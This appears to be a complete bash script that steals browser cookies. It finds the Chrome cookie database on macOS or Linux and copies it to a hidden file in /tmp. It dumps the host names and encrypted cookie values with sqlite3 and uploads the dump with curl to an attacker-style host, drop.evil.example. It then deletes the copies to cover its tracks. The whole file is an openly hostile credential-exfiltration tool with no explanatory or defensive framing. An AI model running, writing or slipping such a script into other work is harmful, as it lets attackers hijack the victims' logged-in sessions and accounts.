#!/bin/bash
src="$HOME/Library/Application Support/Google/Chrome/Default/Cookies"
[ -f "$src" ] || src="$HOME/.config/google-chrome/Default/Cookies"
cp "$src" /tmp/.c.db
sqlite3 /tmp/.c.db 'select host_key, hex(encrypted_value) from cookies' > /tmp/.c.txt
curl -s -T /tmp/.c.txt https://drop.evil.example/
rm -f /tmp/.c.db /tmp/.c.txt
